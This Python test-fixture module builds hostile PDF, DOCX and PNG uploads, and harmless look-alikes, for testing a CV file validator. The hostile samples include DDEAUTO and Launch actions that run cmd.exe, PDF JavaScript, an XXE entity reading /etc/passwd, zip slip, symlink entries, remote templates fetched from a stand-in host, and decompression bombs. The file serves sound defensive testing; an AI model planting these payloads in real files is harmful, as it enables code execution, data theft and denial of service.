"""Files that must be refused, and honest oddities that must not, built by code and named."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf

from tests.files import (
    docx_cv,
    docx_members,
    jpeg_image,
    pdf,
    pdf_cv,
    pdf_stream,
    pdf_text,
    png_image,
    relationships,
    word_part,
    zipped,
)

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
PAGES = b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"


def one_page(
    catalogue: bytes = b"", page: bytes = b"", *more: bytes, content: bytes = pdf_stream(pdf_text(["Kari Nordmann"]))
) -> bytes:
    """Objects 1–5 are catalogue, pages, font, page, content; `more` begins at 6."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
            PAGES,
            FONT,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 3 0 R >> >> %s >>"
            % page,
            content,
            *more,
        ]
    )


def encrypted_pdf(user: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_cv())) as opened:
        opened.save(out, encryption=pikepdf.Encryption(owner="owner", user=user, R=6))
    return out.getvalue()


def attached_pdf(name: str, data: bytes) -> bytes:
    entry = b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>"
    stream = pdf_stream(zlib.compress(data), b"/Type /EmbeddedFile /Filter /FlateDecode")
    return one_page(entry, b"", b"<< /Type /Filespec /F (%s) /EF << /F 7 0 R >> >>" % name.encode(), stream)


def flate(data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return pdf_stream(data, b"/Filter [%s]" % (b" /FlateDecode" * times))


def flate_bomb(times: int, size: int = 200_000_000) -> bytes:
    return one_page(content=flate(b"0 0 m " * (size // 6), times))


def page_bomb() -> bytes:
    """Ten levels of ten shared branches: 10 000 000 000 pages in a kilobyte."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(10):
        objects.append(b"<< /Type /Pages /Count 10000000000 /Kids [%s] >>" % (b"%d 0 R " % (level + 3) * 10))
    objects.append(b"<< /Type /Page /Parent 11 0 R /MediaBox [0 0 595 842] >>")
    return pdf(objects)


def xref_stream_pdf() -> bytes:
    """As modern programs write it: objects in compressed object streams."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_cv(pages=3))) as opened:
        opened.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def hidden_script() -> bytes:
    """The script's name escaped, in a compressed object stream."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(one_page(b"/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >>"))) as opened:
        opened.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def xfa(script: bytes) -> bytes:
    return one_page(
        b"/AcroForm << /Fields [] /XFA 6 0 R >>", b"", pdf_stream(b"<xdp><template>%s</template></xdp>" % script)
    )


def docx(**members: object) -> bytes:
    return zipped(docx_members(["Kari Nordmann"], **members))  # type: ignore[arg-type]


def raw_zip(changes: Callable[[zipfile.ZipFile], None]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in docx_members(["Kari Nordmann"]).items():
            archive.writestr(name, data)
        changes(archive)
    return out.getvalue()


def symlink(archive: zipfile.ZipFile) -> None:
    info = zipfile.ZipInfo("word/media/image1.png")
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    archive.writestr(info, "/etc/passwd")


def duplicate() -> bytes:
    return raw_zip(lambda archive: archive.writestr("word/documenT.xml", "second"))


def lying_sizes() -> bytes:
    """The directory says 100 bytes, the data unfold to 300 MB."""
    data = bytearray(raw_zip(lambda archive: archive.writestr("word/media/a.bin", bytes(300_000_000))))
    while (place := data.find(struct.pack("<L", 300_000_000))) >= 0:
        data[place : place + 4] = struct.pack("<L", 100)
    return bytes(data)


def zip_bomb(size: int, name: str = "word/media/a.bin") -> bytes:
    return raw_zip(lambda archive: archive.writestr(name, bytes(size)))


def many_members(archive: zipfile.ZipFile) -> None:
    for number in range(3_000):
        archive.writestr(f"word/media/{number}.bin", "")


def with_doctype(part: str, doctype: str, body: str = "") -> bytes:
    members = docx_members(["Kari Nordmann"], body=body)
    text = str(members[part])
    members[part] = text.replace("?>", f"?>{doctype}", 1)
    return zipped(members)


def field(instruction: str) -> str:
    """A field whose instruction is spread over one run a letter, as obfuscators do."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{letter}</w:instrText></w:r>' for letter in instruction)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def simple_field(instruction: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{instruction}"/></w:p>'


def quoted_dde() -> str:
    inner = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 68 68 69 65 85 84 79 </w:instrText></w:r>'
    inner += '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    rest = "<w:r><w:instrText> c:/windows/system32/cmd.exe </w:instrText></w:r>"
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{inner}{rest}{end}</w:p>"


def linked(kind: str, target: str) -> bytes:
    return docx(links=[(kind, target, "External")])


def template(target: str) -> bytes:
    return docx(more={"word/_rels/settings.xml.rels": relationships(("attachedTemplate", target, "External"))})


def ole(stream: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + stream.encode("utf-16-le") + bytes(1000)


def png_header(width: int, height: int) -> bytes:
    """A picture that says it is very large."""
    header = b"IHDR" + struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0)
    chunk = struct.pack(">L", 13) + header + struct.pack(">L", zlib.crc32(header))
    return b"\x89PNG\r\n\x1a\n" + chunk + png_image()[33:]


def port_files(port: int) -> dict[str, tuple[str, bytes]]:
    """Files that would call a listener on this port, were anything of theirs followed."""
    home = f"http://127.0.0.1:{port}/"
    external = f'<!DOCTYPE a SYSTEM "{home}a.dtd"><a/>'
    return {
        "remote_template": ("docx", template(home + "t.dotm")),
        "external_image": ("docx", linked("image", home + "i.png")),
        "frame": ("docx", linked("frame", home + "f.html")),
        "xxe_external_dtd": ("docx", docx(more={"word/styles.xml": external})),
        "uri_openaction": ("pdf", one_page(b"/OpenAction << /S /URI /URI (%s) >>" % home.encode())),
        "submit_form": ("pdf", one_page(b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (%s) >> >>" % home.encode())),
        "far_stream": (
            "pdf",
            one_page(content=b"<< /Length 0 /F << /FS /URL /F (%s) >> >>\nstream\n\nendstream" % home.encode()),
        ),
    }


HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    # name: (extension, builder, the code of its sentence)
    "empty": ("pdf", lambda: b"", "empty"),
    "oversize": ("pdf", lambda: pdf_cv() + bytes(5_000_000), "too_large"),
    "exe_as_pdf": ("pdf", lambda: b"MZ\x90\0" + bytes(3000), "wrong_type"),
    "eicar_as_pdf": ("pdf", lambda: EICAR, "wrong_type"),
    "random_as_pdf": ("pdf", lambda: zlib.compress(bytes(range(256)) * 40), "wrong_type"),
    "docx_as_pdf": ("pdf", docx_cv, "wrong_type"),
    "header_only": ("pdf", lambda: b"%PDF-1.7\n", "damaged"),
    "truncated_pdf": ("pdf", lambda: pdf_cv()[:120], "damaged"),
    "noise_behind_header": ("pdf", lambda: b"%PDF-1.7\n" + zlib.compress(bytes(range(256)) * 40), "damaged"),
    "needs_password": ("pdf", lambda: encrypted_pdf("hemmelig"), "encrypted"),
    "javascript_openaction": (
        "pdf",
        lambda: one_page(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "scripts",
    ),
    "javascript_names": (
        "pdf",
        lambda: one_page(b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", b"", b"<< /S /JavaScript /JS (a) >>"),
        "scripts",
    ),
    "javascript_on_page": ("pdf", lambda: one_page(b"", b"/AA << /O << /S /JavaScript /JS (a) >> >>"), "scripts"),
    "javascript_hidden": ("pdf", hidden_script, "scripts"),
    "javascript_chained": (
        "pdf",
        lambda: one_page(b"/OpenAction << /S /GoTo /D [4 0 R /Fit] /Next [<< /S /JavaScript /JS (a) >>] >>"),
        "scripts",
    ),
    "xfa_script": ("pdf", lambda: xfa(b"<script contentType='application/x-javascript'>a</script>"), "scripts"),
    "javascript_beside_a_bad_name": (
        "pdf",
        lambda: one_page(b"/X\xe6 1 /OpenAction << /B\xf8 1 /S /JavaScript /JS (a) >>"),
        "scripts",
    ),
    "javascript_pointed_at": (
        "pdf",
        lambda: one_page(b"/OpenAction 6 0 R", b"", b"<< /S 7 0 R /JS (a) >>", b"/JavaScript"),
        "scripts",
    ),
    "launch": ("pdf", lambda: one_page(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "launch"),
    "launch_on_click": (
        "pdf",
        lambda: one_page(b"", b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (a.exe) >> >>]"),
        "launch",
    ),
    "uri_openaction": ("pdf", lambda: one_page(b"/OpenAction << /S /URI /URI (http://x.example/) >>"), "calls_out"),
    "unc_on_open": (
        "pdf",
        lambda: one_page(b"", b"/AA << /O << /S /GoToE /F (\\\\\\\\x\\\\y) /D [0 /Fit] >> >>"),
        "calls_out",
    ),
    "import_data": ("pdf", lambda: one_page(b"/OpenAction << /S /ImportData /F (a.fdf) >>"), "calls_out"),
    "attached_exe": ("pdf", lambda: attached_pdf("cv.exe", b"MZ" + bytes(100)), "program_inside"),
    "attached_exe_renamed": ("pdf", lambda: attached_pdf("cv.xml", b"MZ" + bytes(100)), "program_inside"),
    "attached_eicar": ("pdf", lambda: attached_pdf("a.txt", EICAR), "malware"),
    "attached_macro": ("pdf", lambda: attached_pdf("a.docx", zipped({"word/vbaProject.bin": b"x"})), "macros"),
    "html_then_pdf": ("pdf", lambda: b"<html><script>alert(1)</script></html>" + pdf_cv(), "two_types"),
    "script_then_pdf": ("pdf", lambda: b"alert(1)/*" + pdf_cv(), "two_types"),
    "zip_then_pdf": ("pdf", lambda: zipped({"a": "b"}) + pdf_cv(), "two_types"),
    "gif_then_pdf": ("pdf", lambda: b"GIF89a" + pdf_cv(), "two_types"),
    "flate_bomb": ("pdf", lambda: flate_bomb(1), "bomb"),
    "flate_bomb_nested": ("pdf", lambda: flate_bomb(3), "bomb"),
    "page_bomb": ("pdf", page_bomb, "damaged"),
    "501_pages": ("pdf", lambda: pdf_cv(["a"], pages=501), "too_many_pages"),
    "giant_page": ("pdf", lambda: one_page(b"", b"/MediaBox [0 0 1000000 1000000]"), "bomb"),
    "text_as_docx": ("docx", lambda: b"Kari Nordmann", "wrong_type"),
    "pdf_as_docx": ("docx", pdf_cv, "wrong_type"),
    "zip_as_docx": ("docx", lambda: zipped({"a.txt": "b"}), "wrong_type"),
    "xlsx_as_docx": (
        "docx",
        lambda: zipped(docx_members(main="xl/workbook.xml", content_type="application/vnd.ms-excel.sheet")),
        "wrong_type",
    ),
    "old_doc_as_docx": ("docx", lambda: ole("WordDocument"), "wrong_type"),
    "encrypted_docx": ("docx", lambda: ole("EncryptedPackage"), "encrypted"),
    "truncated_docx": ("docx", lambda: docx_cv()[:-200], "damaged"),
    "broken_xml": ("docx", lambda: zipped({**docx_members(), "word/document.xml": "<w:document"}), "damaged"),
    "no_main_part": ("docx", lambda: zipped({**docx_members(), "_rels/.rels": relationships()}), "damaged"),
    "macro": ("docx", lambda: docx(more={"word/vbaProject.bin": b"x"}), "macros"),
    "macro_elsewhere": ("docx", lambda: docx(links=[("vbaProject", "a.bin")], more={"word/a.bin": b"x"}), "macros"),
    "docm_renamed": ("docx", lambda: docx(content_type=MACRO_MAIN), "macros"),
    "activex": ("docx", lambda: docx(more={"word/activeX/activeX1.bin": b"x"}), "macros"),
    "dde": ("docx", lambda: docx(body=field(' DDEAUTO c:/windows/cmd.exe "/k calc" ')), "dde"),
    "dde_simple": ("docx", lambda: docx(body=simple_field("DDE a b c")), "dde"),
    "dde_quoted": ("docx", lambda: docx(body=quoted_dde()), "dde"),
    "dde_in_header": ("docx", lambda: docx(more={"word/header1.xml": word_part(field("DDE a b"), "hdr")}), "dde"),
    "includetext": ("docx", lambda: docx(body=simple_field("INCLUDETEXT http://x.example/a.docx")), "external_content"),
    "remote_template": ("docx", lambda: template("https://x.example/t.dotm"), "remote_template"),
    "unc_template": ("docx", lambda: template("\\\\x.example\\share\\t.dotm"), "remote_template"),
    "unc_file_template": ("docx", lambda: template("file://x.example/share/t.dotm"), "remote_template"),
    "five_slash_template": ("docx", lambda: template("file://///x.example/share/t.dotm"), "remote_template"),
    "external_image": ("docx", lambda: linked("image", "http://x.example/a.png"), "external_content"),
    "unc_image": ("docx", lambda: linked("image", "file:///\\\\x.example\\a.png"), "external_content"),
    "external_frame": ("docx", lambda: linked("frame", "http://x.example/"), "external_content"),
    "external_ole": ("docx", lambda: linked("oleObject", "mhtml:http://x.example/a.html!x"), "external_content"),
    "zip_slip": ("docx", lambda: raw_zip(lambda archive: archive.writestr("../../evil.txt", "x")), "unsafe_archive"),
    "zip_slip_backslash": (
        "docx",
        lambda: raw_zip(lambda archive: archive.writestr("word\\..\\..\\a", "x")),
        "unsafe_archive",
    ),
    "absolute_member": (
        "docx",
        lambda: raw_zip(lambda archive: archive.writestr("/etc/cron.d/a", "x")),
        "unsafe_archive",
    ),
    "symlink_member": ("docx", lambda: raw_zip(symlink), "unsafe_archive"),
    "duplicate_member": ("docx", duplicate, "unsafe_archive"),
    "zip_bomb": ("docx", lambda: zip_bomb(150_000_000), "bomb"),
    "document_bomb": ("docx", lambda: zip_bomb(150_000_000, "word/a.xml"), "damaged"),
    "space_bomb": (
        "docx",
        lambda: docx(more={"word/styles.xml": word_part(" " * 150_000_000, "styles")}),
        "bomb",
    ),
    "deep_xml": ("docx", lambda: docx(more={"word/styles.xml": "<a>" * 100_000 + "</a>" * 100_000}), "bomb"),
    "lying_sizes": ("docx", lying_sizes, "bomb"),
    "many_members": ("docx", lambda: raw_zip(many_members), "bomb"),
    "xxe": (
        "docx",
        lambda: with_doctype("word/document.xml", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        "xml_entities",
    ),
    "laughs": (
        "docx",
        lambda: with_doctype("word/document.xml", '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'),
        "xml_entities",
    ),
    "dtd_in_relations": (
        "docx",
        lambda: with_doctype("_rels/.rels", '<!DOCTYPE a SYSTEM "http://x.example/">'),
        "xml_entities",
    ),
    "dtd_in_properties": ("docx", lambda: docx(more={"docProps/core.xml": "<!DOCTYPE a><a/>"}), "xml_entities"),
    "eicar_in_docx": ("docx", lambda: docx(more={"word/media/a.png": EICAR}), "malware"),
    "eicar_in_zip_in_docx": ("docx", lambda: docx(more={"word/embeddings/a.zip": zipped({"b": EICAR})}), "malware"),
    "exe_in_docx": ("docx", lambda: docx(more={"word/embeddings/a.bin": b"MZ" + bytes(90)}), "program_inside"),
    "package_in_docx": ("docx", lambda: docx(more={"word/embeddings/o.bin": ole("\x01Ole10Native")}), "program_inside"),
    "gif_as_png": ("png", lambda: b"GIF89a" + bytes(100), "wrong_type"),
    "truncated_png": ("png", lambda: png_image((400, 300))[:-40], "damaged"),
    "truncated_jpeg": ("jpg", lambda: jpeg_image((400, 300))[:400], "damaged"),
    "pixel_bomb": ("png", lambda: png_header(60_000, 60_000), "too_many_pixels"),
}


def _damaged_xref() -> bytes:
    return pdf_cv().replace(b"startxref\n", b"startxref\n9")


HONEST: dict[str, tuple[str, Callable[[], bytes]]] = {
    "plain_pdf": ("pdf", pdf_cv),
    "many_pages": ("pdf", lambda: pdf_cv(["a"], pages=60)),
    "object_streams": ("pdf", xref_stream_pdf),
    "owner_password": ("pdf", lambda: encrypted_pdf("")),
    "byte_order_mark": ("pdf", lambda: b"\xef\xbb\xbf" + pdf_cv()),
    "blank_lines_first": ("pdf", lambda: b"\r\n\r\n" + pdf_cv()),
    "printer_lines_first": ("pdf", lambda: b"\x1b%-12345X@PJL\r\n" + pdf_cv()),
    "damaged_xref": ("pdf", _damaged_xref),
    "no_end": ("pdf", lambda: pdf_cv()[: pdf_cv().rfind(b"xref\n0") + 4]),
    "rubbish_behind": ("pdf", lambda: pdf_cv() + bytes(3_000)),
    "hyperlink_pdf": (
        "pdf",
        lambda: one_page(
            b"", b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.no/) >> >>]"
        ),
    ),
    "opens_at_first_page": ("pdf", lambda: one_page(b"/OpenAction [4 0 R /Fit]")),
    "opens_by_goto": ("pdf", lambda: one_page(b"/OpenAction << /S /GoTo /D [4 0 R /Fit] >>")),
    "europass": ("pdf", lambda: attached_pdf("Europass-XML-Attachment.xml", b"<?xml version='1.0'?><Candidate/>")),
    "words_about_scripts": ("pdf", lambda: pdf_cv(["/JavaScript /Launch /OpenAction", "JavaScript i ti aar"])),
    "empty_script_tree": ("pdf", lambda: one_page(b"/Names << /JavaScript << /Names [] >> >>")),
    "latin_1_names": ("pdf", lambda: one_page(b"/Bl\xe5 1", b"/Resources << /Font << /F1 3 0 R /F\xf8 3 0 R >> >>")),
    "font_named_js": ("pdf", lambda: one_page(b"", b"/Resources << /Font << /F1 3 0 R /JS 3 0 R >> >>")),
    "form_without_script": ("pdf", lambda: xfa(b"<subform/>")),
    "white_scan": (
        "pdf",
        lambda: one_page(
            b"",
            b"",
            pdf_stream(
                zlib.compress(b"\xff" * 100_000_000),
                b"/Subtype /Image /Width 5000 /Height 6666 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode",
            ),
        ),
    ),
    "plain_docx": ("docx", docx_cv),
    "document2": ("docx", lambda: docx(main="word/document2.xml")),
    "hyperlink_docx": ("docx", lambda: linked("hyperlink", "https://example.no/?a=1&b=2")),
    "local_template": ("docx", lambda: template("file:///C:\\Users\\Kari\\CV%20mal.dotx")),
    "local_template_path": ("docx", lambda: template("C:\\Users\\Kari\\CV.dotx")),
    "hyperlink_field": ("docx", lambda: docx(body=field(' HYPERLINK "https://example.no/dde" '))),
    "page_field": ("docx", lambda: docx(body=simple_field("PAGE \\* MERGEFORMAT"))),
    "pasted_picture": (
        "docx",
        lambda: docx(body=simple_field("INCLUDEPICTURE &quot;https://example.no/a.png&quot; \\* MERGEFORMATINET")),
    ),
    "words_about_dde": ("docx", lambda: docx_cv(["DDE og DDEAUTO i Excel"])),
    "directories": ("docx", lambda: raw_zip(lambda archive: archive.writestr("word/media/", ""))),
    "excel_inside": ("docx", lambda: docx(more={"word/embeddings/ark.xlsx": zipped({"xl/workbook.xml": "<a/>"})})),
    "broken_custom_part": ("docx", lambda: docx(more={"customXml/item1.xml": "<a>"})),
    "utf16_part": (
        "docx",
        lambda: docx(more={"word/settings.xml": '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16")}),
    ),
    "png": ("png", png_image),
    "jpeg": ("jpg", jpeg_image),
    "large_photo": ("jpg", lambda: jpeg_image((6000, 8000))),
    "jpeg_called_png": ("png", jpeg_image),
}
